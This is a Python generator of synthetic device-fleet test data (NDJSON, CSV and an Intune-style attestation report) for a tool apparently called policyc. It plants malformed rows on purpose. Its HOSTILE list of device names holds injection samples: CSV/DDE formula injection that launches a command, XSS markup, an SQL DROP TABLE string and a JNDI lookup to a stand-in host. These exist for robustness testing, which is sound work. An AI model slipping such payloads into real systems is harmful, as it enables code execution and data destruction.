#!/usr/bin/env python3
"""Writes a fleet of made-up devices to standard output: always the same for the same count.

    Tests/Fleet/generate.py COUNT ndjson|csv|intune

ndjson and csv hold the same devices in policyc's own format. Every 97th row, from the 14th on, cannot be read: row 14, 111, 208, ...
intune has the columns of Intune's device attestation report, and so fewer facts.
"""
import csv
import io
import json
import random
import sys

BAD_EVERY, BAD_FIRST = 97, 14

BUILDS = [
    "10.0.22631.4037", "10.0.26100.1742", "10.0.22631.2792", "10.0.22631.2791", "10.0.22621.2792", "10.0.22621.2791", "10.0.22621.3880", "10.0.22000.2713",
    "10.0.22000.2712", "10.0.19045.3996", "10.0.19045.3995", "10.0.19045.4780", "10.0.19044.6000", "10.0.26200.6584",
    "10.0.17763.6189", "10.0.20348.2700", "10.0.22635.4010", "10.0.9600.22100", "23H2",
]
ABLE = ["10.0.22631.4037", "10.0.22621.2792", "10.0.19045.4780", "10.0.26100.1742"]
STATUSES = ["not_started", "in_progress", "tpm_not_available", "entra_key_not_in_tpm", "mdm_key_already_in_tpm", "tpm_not_ready",
            "authentication_failed", "request_rejected"]
PLATFORMS = ["hyper_v", "azure_vm", "azure_virtual_desktop", "windows_365", "dev_box", "other_vm"]
MAKERS = ["AMD", "INTC", "IFX", "NTC", "STM"]
MODELS = ["Latitude 7440", "ThinkPad X1 Carbon Gen 11", "EliteBook 840 G10", "Let's note FV4", "LIFEBOOK U9413", "VersaPro タイプVG"]
PLACES = ["経理", "営業部", "開発-第二", "総務", "名古屋支店", "ｼｽﾃﾑ管理", "品質保証"]
PEOPLE = ["佐藤", "鈴木", "高橋", "田中", "Müller", "O'Brien", "Nguyễn"]
# What hurts a table when it is not quoted, a spreadsheet when it is a formula, a page when it is markup, a terminal when it is printed.
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/\",\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1", "＝1+1",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", "a,b;c\"d\"e", "two\nlines",
    "carriage\r\nreturn", "\u202egnp.exe", "\u001b[31mred", "'; DROP TABLE devices; --", "NULL", "{{7*7}}", "${jndi:ldap://evil.example}",
    "e\u0301 and \u00e9", "👩‍💻 laptop", "x" * 300, " blank at both ends ", "#N/A",
]
COLUMNS = ["device_name", "device_id", "upn", "os", "os_version", "ownership", "last_check_in", "enrollment_date", "tpm_version",
           "tpm_manufacturer", "model"]
FACTS = ["os.build", "os.edition", "device.platform", "tpm.present", "tpm.version", "tpm.ready", "tpm.trusted", "tpm.manufacturer",
         "tpm.firmware", "tpm.vulnerable_firmware", "attestation.aik_certificate", "attestation.aik_public_key",
         "attestation.mdm_key_in_tpm", "attestation.supported", "attestation.token_has_device", "attestation.token_matches_device",
         "attestation.recovery_status", "entra.key_in_tpm", "entra.device_authenticated", "entra.key_usable", "entra.recovery_needed"]


def is_bad(row):
    return row % BAD_EVERY == BAD_FIRST


class Fleet:
    """Devices in order. What is rare in a fleet, such as a TPM that is not trusted, is common enough here to be counted."""

    def __init__(self, seed):
        # Only random() is used: its values are the same in every version of Python.
        self.random = random.Random(seed).random
        self.known = []

    def less(self, limit):
        return int(self.random() * limit)

    def pick(self, values):
        return values[self.less(len(values))]

    def chance(self, percent):
        return self.random() * 100 < percent

    def guid(self):
        digits = "".join("%08x" % self.less(1 << 32) for _ in range(4))
        return f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-8{digits[17:20]}-{digits[20:]}"

    def day(self, year):
        return f"{year + self.less(2)}-{self.less(12) + 1:02}-{self.less(28) + 1:02}T{self.less(24):02}:{self.less(60):02}:00Z"

    def device(self, row):
        """Column or fact -> text, number or truth; what is not known is left out."""
        one = {"device_name": self.name(row), "device_id": self.identity(), "upn": f"{self.pick(PEOPLE)}{row}@example.com", "os": "Windows",
               "ownership": "corporate" if self.chance(80) else "personal", "last_check_in": self.day(2025),
               "enrollment_date": self.day(2022), "model": self.pick(MODELS)}
        one.update(self.facts())
        for name in ("ownership", "upn", "last_check_in", "model"):
            if self.chance(3):
                del one[name]
        for name in FACTS:
            if name in one and self.chance(1):
                del one[name]
        return one

    def facts(self):
        facts = {"os.build": self.pick(BUILDS[:3]) if self.chance(50) else self.pick(BUILDS), "os.edition": self.pick(["pro", "enterprise", "education"]),
                 "device.platform": "physical" if self.chance(93) else self.pick(PLATFORMS),
                 "attestation.supported": not self.chance(2), "attestation.token_has_device": not self.chance(3), "attestation.token_matches_device": not self.chance(3),
                 "attestation.recovery_status": "finished" if self.chance(60) else self.pick(STATUSES)}
        if self.chance(70):
            facts.update({"entra.device_authenticated": not self.chance(2), "entra.recovery_needed": self.chance(2)})
        if self.chance(20):
            facts["entra.key_usable"] = not self.chance(4)
        if self.chance(4):
            return {**facts, "tpm.present": False, "entra.key_in_tpm": False}
        old = self.chance(4)
        return {**facts, "tpm.present": True, "tpm.version": "1.2" if old else "2.0", "tpm.ready": not self.chance(6), "tpm.trusted": not self.chance(2),
                "tpm.manufacturer": self.pick(MAKERS), "tpm.firmware": f"{self.pick([3, 5, 6, 7])}.{self.pick([60, 61, 62, 63])}.{self.less(3200)}.0",
                "tpm.vulnerable_firmware": self.chance(2), "attestation.aik_certificate": not self.chance(6),
                "attestation.aik_public_key": not self.chance(4), "attestation.mdm_key_in_tpm": self.chance(85),
                "entra.key_in_tpm": not self.chance(6)}

    def name(self, row):
        kind = self.less(100)
        if kind < 4:
            return self.pick(HOSTILE)
        return f"{self.pick(PLACES)}-PC-{row:06}" if kind < 34 else f"LAPTOP-{row:06}"

    def identity(self):
        """The ID of a managed device; now and then one that came before, in capital letters, or none."""
        kind = self.less(400)
        if kind == 0 and self.known:
            return self.pick(self.known).upper()
        if kind == 1:
            return self.pick(["", "00000000-0000-0000-0000-000000000000", "../../users", "not-a-guid"])
        self.known.append(self.guid())
        return self.known[-1]


def write_ndjson(count, out):
    broken = ['{"device_name": "cut off', "[1, 2, 3]", '"only a text"', "no JSON at all", '{"device_name": "two"} {"device_name": "in a row"}',
              "null", '{"device_name": "トレーリング",}', "{'device_name': 'single quotes'}"]
    fleet = Fleet(20260101)
    for row in range(1, count + 1):
        device = fleet.device(row)
        if is_bad(row):
            out.write(broken[row // BAD_EVERY % len(broken)] + "\n")
        else:
            out.write(json.dumps({name: device[name] for name in COLUMNS + FACTS if name in device}, ensure_ascii=False) + "\n")


def csv_line(values):
    line = io.StringIO()
    csv.writer(line, lineterminator="\r\n").writerow(values)
    return line.getvalue()


def text(value):
    return "" if value is None else str(value).lower() if isinstance(value, bool) else value


def write_csv(count, out):
    names = COLUMNS + FACTS
    out.write(csv_line(names))
    fleet = Fleet(20260101)
    for row in range(1, count + 1):
        device = fleet.device(row)
        values = [text(device.get(name)) for name in names]
        if is_bad(row):
            # Too few fields, and too many.
            values = values[:-2] if row // BAD_EVERY % 2 else values + ["one", "too many"]
        out.write(csv_line(values))


# What Intune says of a device that failed, and the status that stands for it.
DETAILS = {
    "Entra key can't be attested": "entra_key_not_attested", "TPM isn't trusted": "tpm_not_trusted", "TPM isn't available": "tpm_not_available",
    "TPM isn't ready": "tpm_not_ready", "Client request is rejected": "client_request_rejected",
    "AIK certificate wasn't provided": "aik_certificate_missing", "Client didn't provide all required parameters": "parameters_missing",
    "MDM key is already in TPM": "mdm_key_already_in_tpm", "Entra token doesn't match device identity": "entra_token_mismatch",
    "Entra token is missing device identity": "entra_token_without_device", "Feature isn't supported": "feature_not_supported", "Authentication failed": "authentication_failed",
}


def write_intune(count, out):
    """Intune's device attestation report, of devices on Windows that can attest."""
    out.write(csv_line(["Device name", "Device ID", "UPN", "Device attestation status", "Status detail", "OS", "OS version", "Ownership",
                        "Last check-in", "Enrollment date", "TPM version", "TPM manufacturer", "Model"]))
    fleet = Fleet(20260101)
    for row in range(1, count + 1):
        one = fleet.device(row)
        status = fleet.pick(["Completed", "Completed", "Failed", "In progress", "Not started"])
        detail = fleet.pick(list(DETAILS)) if status == "Failed" else "Attestation is in process" if status == "In progress" else ""
        values = [one["device_name"], one["device_id"], one.get("upn"), status, detail, "Windows", fleet.pick(ABLE), one.get("ownership", "").capitalize(),
                  one.get("last_check_in"), one["enrollment_date"], "2.0, 0, 1.59", fleet.pick(MAKERS), one.get("model")]
        out.write(csv_line([text(value) for value in (values[:-1] if is_bad(row) else values)]))


WRITERS = {"ndjson": write_ndjson, "csv": write_csv, "intune": write_intune}


def main():
    if len(sys.argv) != 3 or not sys.argv[1].isdigit() or sys.argv[2] not in WRITERS:
        sys.exit(__doc__)
    out = io.TextIOWrapper(sys.stdout.buffer, encoding="utf-8", newline="")
    WRITERS[sys.argv[2]](int(sys.argv[1]), out)
    out.flush()


if __name__ == "__main__":
    main()
